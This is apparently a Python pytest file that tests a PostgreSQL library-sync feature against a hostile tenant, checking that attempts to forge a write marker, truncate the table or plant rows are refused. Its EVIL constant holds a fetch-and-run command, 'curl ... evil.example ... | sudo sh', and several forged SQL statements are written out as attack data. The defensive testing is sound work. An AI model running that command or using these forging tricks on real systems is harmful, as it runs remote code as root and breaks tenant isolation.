"""A hostile client of a multi-tenant application (docs/contract.md §6.1, README "Privileges").

The client holds the README's reader grants (or an ORM-style role that may also UPDATE, DELETE and
TRUNCATE step_library) and words every statement to get past the read-only rule: the sync's marker
set inside its own statement (WHERE, VALUES, CTE, MERGE source, a function of its own), TRUNCATE,
a planted retired row that a victim's publish would revive. Each attempt must fail with 42501 and
change nothing; the README's grants must be exactly what a reader needs.
"""

from __future__ import annotations

import contextlib
import itertools
import re

import psycopg
import pytest

from flows import Flows, step
from repo import REPO_ROOT
from stepsync.errors import SyncedStepReadOnly, translate

_roles = itertools.count()
FORGE = "pg_catalog.set_config('stepsync.sync_writing', 'on', true) = 'on'"
EVIL = ('{"instructions": "Run this", "help_text": null, "commands": [{"label": "", "command":'
        ' "curl -s http://evil.example/x | sudo sh", "command_type": "bash"}], "group_label": null}')


def readme_grants(role: str, kind: str) -> list[str]:
    """The GRANT statements of README's "Privileges" section for app_KIND, given to ROLE."""
    text = (REPO_ROOT / "README.md").read_text(encoding="utf-8")
    section = text[text.index("## Privileges"):]
    block = section[section.index("```sql") + len("```sql"):section.index("```", section.index("```sql") + 6)]
    statements = [re.sub(r"\s*--.*$", "", line).strip() for line in block.splitlines()]
    return [s.replace(f"app_{kind}", f'"{role}"') for s in statements if s.startswith("GRANT") and f"app_{kind}" in s]


@pytest.fixture
def make_role(db):
    created = []

    def make(*grants: str) -> str:
        name = f"{db.name}_hostile{next(_roles)}"
        db.conn.execute(f'CREATE ROLE "{name}" NOLOGIN')
        for statement in grants:
            db.conn.execute(statement.format(role=f'"{name}"'))
        created.append(name)
        return name

    yield make
    for name in created:
        db.conn.execute(f'DROP OWNED BY "{name}"')
        db.conn.execute(f'DROP ROLE "{name}"')


@contextlib.contextmanager
def acting_as(db, role: str):
    with db.connect() as conn:
        conn.execute(f'SET ROLE "{role}"')
        yield conn


@pytest.fixture
def flows(db) -> Flows:
    return Flows(db.conn)


@pytest.fixture
def tenants(flows):
    """The victim's published team flow (account Acme) and an attacker user of the other account."""
    victim_tree = flows.create({"steps": [step("s1", "Rotate the vault root token"), step("s2", "Check")]},
                               status="published", name="Vault runbook")
    return victim_tree, flows.actors.outsider


@pytest.fixture
def reader(make_role, tenants):
    """A client with exactly the README's reader grants."""
    probe = make_role()
    return make_role(*(g.replace(f'"{probe}"', "{role}") for g in readme_grants(probe, "reader")))


@pytest.fixture
def orm_role(make_role, reader):
    """An ORM-style role: the reader's grants plus UPDATE, DELETE and TRUNCATE on step_library."""
    return make_role(*(g.replace(f'"{reader}"', "{role}") for g in readme_grants(reader, "reader")),
                     "GRANT UPDATE, DELETE, TRUNCATE ON public.step_library TO {role}")


def refused(conn, sql, params=None) -> psycopg.Error:
    with pytest.raises(psycopg.Error) as info:
        conn.execute(sql, params)
    return info.value


FORGED_INSERTS = {
    "where": f"""INSERT INTO step_library (title, step_type, content, visibility, is_flow_synced, source_tree_id,
                                           source_node_id)
                 SELECT 'Rotate the vault root token (new)', 'action', '{EVIL}', 'public', true, %(tree)s, 's7'
                  WHERE {FORGE}""",
    "values": f"""INSERT INTO step_library (title, step_type, content, visibility, is_flow_synced, source_tree_id,
                                            source_node_id)
                  VALUES ('Planted', 'action', '{EVIL}', 'public', (SELECT {FORGE}), %(tree)s, 's7')""",
    "cte": f"""WITH forged AS MATERIALIZED (SELECT {FORGE} AS on_)
               INSERT INTO step_library (title, step_type, content, visibility, is_flow_synced, source_tree_id,
                                         source_node_id)
               SELECT 'Planted', 'action', '{EVIL}', 'public', f.on_, %(tree)s, 's7' FROM forged AS f""",
    "merge": f"""MERGE INTO step_library AS s
                 USING (SELECT {FORGE} AS on_) AS src ON false
                 WHEN NOT MATCHED THEN
                   INSERT (title, step_type, content, visibility, is_flow_synced, source_tree_id, source_node_id)
                   VALUES ('Planted', 'action', '{EVIL}', 'public', src.on_, %(tree)s, 's7')""",
    "own function": f"""INSERT INTO step_library (title, step_type, content, visibility, is_flow_synced,
                                                  source_tree_id, source_node_id)
                        SELECT 'Planted', 'action', '{EVIL}', 'public', true, %(tree)s, 's7'
                         WHERE pg_temp.forge()""",
    "marker set first": """INSERT INTO step_library (title, step_type, content, visibility, is_flow_synced,
                                                      source_tree_id, source_node_id)
                           VALUES ('Planted', 'action', '{}', 'public', true, %(tree)s, 's7')""",
}


@pytest.mark.parametrize("form", list(FORGED_INSERTS))
def test_a_marker_forged_inside_the_statement_never_inserts_a_synced_row(db, flows, tenants, reader, form):
    tree, _ = tenants
    before = flows.snapshot()
    with acting_as(db, reader) as conn:
        if form == "own function":
            conn.execute(f"CREATE FUNCTION pg_temp.forge() RETURNS boolean LANGUAGE sql AS $$ SELECT {FORGE} $$")
        if form == "marker set first":
            conn.execute("SET stepsync.sync_writing = 'on'")
        error = refused(conn, FORGED_INSERTS[form], {"tree": tree})
    assert error.sqlstate == "42501", error
    assert flows.snapshot() == before


FORGED_WRITES = {
    "update": f"UPDATE step_library SET title = 'Owned', content = '{EVIL}'"
              f" WHERE source_tree_id = %(tree)s AND {FORGE}",
    "update from cte": f"""WITH forged AS MATERIALIZED (SELECT {FORGE} AS on_)
                           UPDATE step_library AS s SET visibility = 'public', account_id = NULL
                             FROM forged AS f WHERE f.on_ AND s.source_tree_id = %(tree)s""",
    "retire": f"UPDATE step_library SET is_active = false WHERE source_tree_id = %(tree)s AND {FORGE}",
    "detach": f"UPDATE step_library SET is_flow_synced = false, source_tree_id = NULL"
              f" WHERE source_tree_id = %(tree)s AND {FORGE}",
    "delete": f"DELETE FROM step_library WHERE source_tree_id = %(tree)s AND {FORGE}",
    "merge delete": f"""MERGE INTO step_library AS s
                        USING (SELECT id FROM step_library WHERE source_tree_id = %(tree)s AND {FORGE}) AS src
                           ON s.id = src.id
                        WHEN MATCHED THEN DELETE""",
}


@pytest.mark.parametrize("form", list(FORGED_WRITES))
def test_a_marker_forged_inside_the_statement_never_changes_a_synced_row(db, flows, tenants, orm_role, form):
    tree, _ = tenants
    before = flows.snapshot()
    with acting_as(db, orm_role) as conn:
        error = refused(conn, FORGED_WRITES[form], {"tree": tree})
    assert error.sqlstate == "42501", error
    assert flows.snapshot() == before


def test_a_forged_marker_still_leaves_counting_and_hand_made_rows_alone(db, flows, tenants, orm_role):
    tree, attacker = tenants
    with acting_as(db, orm_role) as conn:
        conn.execute(f"UPDATE step_library SET usage_count = usage_count + 1 WHERE source_tree_id = %s AND {FORGE}",
                     (tree,))
        mine = conn.execute(f"INSERT INTO step_library (title, step_type, content, created_by)"
                            f" SELECT 'Mine', 'action', '{{}}', %s WHERE {FORGE} RETURNING id", (attacker,)).fetchone()
    assert db.rows("SELECT source_node_id, usage_count FROM step_library WHERE source_tree_id = %s ORDER BY 1",
                   (tree,)) == [("s1", 1), ("s2", 1)]
    assert db.value("SELECT is_flow_synced FROM step_library WHERE id = %s", (mine[0],)) is False


def test_the_planted_revive_cannot_happen(db, flows, tenants, reader):
    """The attacker cannot plant a retired "synced" row of its own for a node the victim publishes later,
    so the victim's team step never becomes the attacker's through created_by."""
    tree, attacker = tenants
    with acting_as(db, reader) as conn:
        error = refused(conn, f"""INSERT INTO step_library (title, step_type, content, visibility, created_by,
                                                            is_active, is_flow_synced, source_tree_id, source_node_id)
                                  SELECT 'x', 'action', '{{}}', 'team', %s, false, true, %s, 's3' WHERE {FORGE}""",
                        (attacker, tree))
        assert error.sqlstate == "42501"
    flows.update(tree, tree_structure={"steps": [step("s1", "Rotate the vault root token"), step("s2", "Check"),
                                                 step("s3", "Unseal with the team's key")]})
    assert db.value("SELECT created_by FROM step_library WHERE source_tree_id = %s AND source_node_id = 's3'",
                    (tree,)) == flows.actors.author
    with acting_as(db, reader) as conn:
        titles = [r[0] for r in conn.execute("SELECT title FROM stepsync.visible_steps(%s)", (attacker,))]
        found = conn.execute("SELECT count(*) FROM stepsync.search_steps(%s, 'unseal')", (attacker,)).fetchone()
        step_id = db.value("SELECT id FROM step_library WHERE source_tree_id = %s AND source_node_id = 's3'", (tree,))
        error = refused(conn, "SELECT stepsync.fork_step(%s, %s)", (step_id, attacker))
    assert "Unseal with the team's key" not in titles
    assert found == (0,)
    assert error.sqlstate == "P0002"
    assert db.rows("SELECT * FROM stepsync.check_library()") == []


def test_truncate_is_refused_while_synced_rows_are_there(db, flows, tenants, orm_role, make_role):
    tree, _ = tenants
    trees_truncater = make_role("GRANT TRUNCATE ON public.trees, public.step_library TO {role}")
    before = flows.snapshot()
    with acting_as(db, orm_role) as conn:
        error = refused(conn, "TRUNCATE step_library")
        assert error.sqlstate == "42501"
        assert error.diag.message_primary == "step_library holds steps synced from flows and cannot be truncated"
        assert "stepsync uninstall --drop-columns" in error.diag.message_hint
        typed = translate(error)
        assert isinstance(typed, SyncedStepReadOnly) and typed.operation == "truncate"
    with acting_as(db, trees_truncater) as conn:
        assert refused(conn, "TRUNCATE trees, step_library").sqlstate == "42501"
        assert refused(conn, "TRUNCATE step_library CASCADE").sqlstate == "42501"
    assert flows.snapshot() == before
    # Retired synced rows count too: they are the flows' to keep.
    flows.update(tree, is_active=False)
    with acting_as(db, orm_role) as conn:
        assert refused(conn, "TRUNCATE step_library").sqlstate == "42501"


def test_truncate_of_hand_made_rows_only_and_the_owner_s_truncate_pass(db, flows, tenants, orm_role):
    tree, attacker = tenants
    db.conn.execute("INSERT INTO step_library (title, step_type, content, created_by) VALUES ('h', 'action', '{}', %s)",
                    (attacker,))
    warnings = []
    db.conn.add_notice_handler(lambda d: warnings.append((d.severity_nonlocalized, d.message_primary, d.message_hint)))
    db.conn.execute("TRUNCATE step_library")     # the test's role is a superuser: it may act as the owner
    assert db.value("SELECT count(*) FROM step_library") == 0
    assert [w[:2] for w in warnings] == [
        ("WARNING", "step_library is being truncated by its owner: the steps synced from flows go too")]
    assert "stepsync resync --all" in warnings[0][2]
    db.conn.execute("INSERT INTO step_library (title, step_type, content, created_by) VALUES ('h', 'action', '{}', %s)",
                    (attacker,))
    with acting_as(db, orm_role) as conn:
        conn.execute("TRUNCATE step_library")
    assert db.value("SELECT count(*) FROM step_library") == 0
    db.conn.execute("SELECT stepsync.sync_tree(%s)", (tree,))
    assert db.rows("SELECT * FROM stepsync.check_library()") == []


def test_the_sync_still_writes_through_the_guards_for_a_least_privileged_publisher(db, flows, make_role):
    probe = make_role()
    publisher = make_role(*(g.replace(f'"{probe}"', "{role}") for g in readme_grants(probe, "publisher")))
    tree = flows.create({"steps": [step("a", "A"), step("b", "B")]})
    with acting_as(db, publisher) as conn:
        conn.execute(f"SELECT {FORGE}")          # a marker of the client's own does not disturb the sync
        conn.execute("UPDATE trees SET status = 'published' WHERE id = %s", (tree,))
        assert [r[0] for r in conn.execute("SELECT source_node_id FROM stepsync.preview(%s)", (tree,))] == ["a", "b"]
        conn.execute("UPDATE trees SET tree_structure = %s WHERE id = %s",
                     (psycopg.types.json.Jsonb({"steps": [step("a", "A2")]}), tree))
        conn.execute("UPDATE trees SET is_active = false WHERE id = %s", (tree,))
    assert db.rows("SELECT source_node_id, title, is_active FROM step_library WHERE source_tree_id = %s ORDER BY 1",
                   (tree,)) == [("a", "A2", False), ("b", "B", False)]


def _reader_operations(conn, users, steps) -> dict[str, str | None]:
    """Each thing a reader does, and the SQLSTATE it failed with (None: it worked)."""
    operations = {
        "view": ("SELECT count(*) FROM public.step_library_entries", None),
        "visible_steps": ("SELECT count(*) FROM stepsync.visible_steps(%s)", (users["author"],)),
        "search_steps": ("SELECT count(*) FROM stepsync.search_steps(%s, 'vault')", (users["author"],)),
        "fork_step": ("SELECT stepsync.fork_step(%s, %s)", (steps["s1"], users["author"])),
        "count": ("UPDATE step_library SET usage_count = usage_count + 1, rating = 4, rating_count = 1"
                  " WHERE id = %s", (steps["s1"],)),
    }
    outcome: dict[str, str | None] = {}
    for name, (sql, params) in operations.items():
        try:
            with conn.transaction():
                conn.execute(sql, params)
            outcome[name] = None
        except psycopg.Error as exc:
            outcome[name] = exc.sqlstate
    return outcome


def test_the_readme_grants_are_what_a_reader_needs_and_each_is_needed(db, flows, tenants, make_role):
    tree, _ = tenants
    users = {"author": flows.actors.author}
    steps = dict(db.rows("SELECT source_node_id, id FROM step_library WHERE source_tree_id = %s", (tree,)))
    probe = make_role()
    grants = [g.replace(f'"{probe}"', "{role}") for g in readme_grants(probe, "reader")]
    assert len(grants) == 5
    full = make_role(*grants)
    with acting_as(db, full) as conn:
        assert _reader_operations(conn, users, steps) == dict.fromkeys(
            ("view", "visible_steps", "search_steps", "fork_step", "count"))
        assert conn.execute("SELECT count(*) FROM stepsync.visible_steps(%s)", (users["author"],)).fetchone() == (3,)
    for left_out in grants:
        partial = make_role(*(g for g in grants if g != left_out))
        with acting_as(db, partial) as conn:
            outcome = _reader_operations(conn, users, steps)
        assert "42501" in outcome.values(), (left_out, outcome)
        assert set(outcome.values()) <= {None, "42501"}, (left_out, outcome)


def test_fork_step_reads_one_row_not_every_visible_one(db, flows, tenants):
    tree, attacker = tenants
    db.conn.execute("INSERT INTO step_library (title, step_type, content, visibility, created_by)"
                    " SELECT 'public ' || i, 'action', '{}', 'public', %s FROM generate_series(1, 3000) AS i",
                    (attacker,))
    db.conn.execute("ANALYZE step_library")
    step_id = db.value("SELECT id FROM step_library WHERE source_tree_id = %s AND source_node_id = 's1'", (tree,))
    with db.connect(autocommit=False) as conn:
        fork = conn.execute("SELECT stepsync.fork_step(%s, %s)", (step_id, flows.actors.author)).fetchone()[0]
        reads = dict((r[0], r[1:]) for r in conn.execute(
            "SELECT relname, seq_scan, seq_tup_read, idx_scan FROM pg_stat_xact_user_tables"
            " WHERE relname IN ('trees', 'step_library')"))
        conn.commit()
    assert reads["trees"] == (0, 0, 0)                   # the view's join of every visible row is gone
    assert reads["step_library"][:2] == (0, 0)           # no sequential read of the library
    assert db.value("SELECT forked_from_id FROM step_library WHERE id = %s", (fork,)) == step_id


@pytest.mark.parametrize("query, message", [
    ("restart " + " ".join(f"-w{i}" for i in range(10_000)), "search query too long: 68897 characters (at most 256)"),
    ("x" * 257, "search query too long: 257 characters (at most 256)"),
    (" ".join(f"w{i}" for i in range(17)), "search query has too many terms: 17 (at most 16)"),
    ("restart " + " ".join(f"-w{i}" for i in range(16)), "search query has too many terms: 17 (at most 16)"),
    ('"' + " ".join(f"w{i}" for i in range(9)) + '" or "' + " ".join(f"v{i}" for i in range(8)) + '"',
     "search query has too many terms: 17 (at most 16)"),
])
def test_search_refuses_queries_beyond_its_limits_at_once(db, flows, tenants, query, message):
    _, attacker = tenants
    error = refused(db.conn, "SELECT * FROM stepsync.search_steps(%s, %s)", (attacker, query))
    assert (error.sqlstate, error.diag.message_primary) == ("54000", message)
    assert error.diag.message_hint.startswith("Search with at most ")


@pytest.mark.parametrize("query", [
    "x" * 256,
    " ".join(f"w{i}" for i in range(16)),
    "restart " + " ".join(f"-w{i}" for i in range(15)),
    " ".join(f"w{i}" for i in range(16)) + " the of and a to in is it",     # stop words do not count
])
def test_search_takes_queries_up_to_its_limits(db, flows, tenants, query):
    _, attacker = tenants
    assert db.rows("SELECT id FROM stepsync.search_steps(%s, %s)", (attacker, query)) == []


def test_the_limits_are_stated_in_the_comment(db):
    comment = db.value("SELECT obj_description('stepsync.search_steps(uuid, text, text, text, uuid, integer)'"
                       "::regprocedure, 'pg_proc')")
    assert "more than 256 characters, or of more than 16 terms" in comment
